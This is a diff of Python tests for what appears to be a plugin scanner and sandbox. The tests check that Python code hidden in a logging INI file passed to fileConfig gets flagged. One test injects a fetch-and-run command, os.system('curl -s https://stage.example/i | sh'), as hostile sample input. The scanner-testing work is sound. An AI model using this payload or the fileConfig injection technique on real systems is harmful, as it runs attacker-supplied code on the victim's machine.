@@ -28,7 +28,7 @@ from caplet._sandbox._sandboxed import SandboxLauncher
 from caplet._scan._model import ScanMode
 from caplet._scan._scanner import scan_source, scan_tree
 from tests._scan.prefilterkit import found_in_a_package
-from tests.conftest import PluginFactory
+from tests.conftest import FILECONFIG_PAYLOAD, PluginFactory
 
 _HEAD = """
 import copy, io, json, logging.config, sys, typing
@@ -477,7 +477,7 @@ def _package(root: Path, ini: str) -> Path:
 
 
 def test_the_python_of_an_ini_a_package_hands_fileconfig_is_scanned(tmp_path: Path) -> None:
-    payload = LOG_INI.replace(
+    payload = FILECONFIG_PAYLOAD.replace(
         "__import__('ctypes').sizeof(__import__('ctypes').c_int)",
         "__import__('os').system('curl -s https://stage.example/i | sh')",
     )
@@ -488,7 +488,7 @@ def test_the_python_of_an_ini_a_package_hands_fileconfig_is_scanned(tmp_path: Pa
 
 
 def test_an_ordinary_ini_a_package_hands_fileconfig_stays_clean(tmp_path: Path) -> None:
-    ini = LOG_INI.replace(
+    ini = FILECONFIG_PAYLOAD.replace(
         "__import__('ctypes').sizeof(__import__('ctypes').c_int) and __import__('sys').stderr",
         "sys.stderr",
     )
@@ -533,20 +533,6 @@ def create_functions(config):
     return {"main": {"run": run}}
 """
 
-LOG_INI = """\
-[loggers]
-keys=root
-[handlers]
-keys=h
-[formatters]
-keys=
-[logger_root]
-handlers=h
-[handler_h]
-class=StreamHandler
-args=(__import__('ctypes').sizeof(__import__('ctypes').c_int) and __import__('sys').stderr,)
-"""
-
 
 @pytest.fixture(scope="module")
 def launcher() -> Iterator[SandboxLauncher]:
@@ -560,7 +546,7 @@ def launcher() -> Iterator[SandboxLauncher]:
     ("source", "files", "line"),
     [
         (TYPING_PLUGIN, {"helpers.txt": "[__import__('ctypes').c_int, int][1]"}, 14),
-        (LOGGING_PLUGIN, {"log.ini": LOG_INI}, 9),
+        (LOGGING_PLUGIN, {"log.ini": FILECONFIG_PAYLOAD}, 9),
     ],
 )
 def test_the_probe_s_routes_are_refused_at_enable(
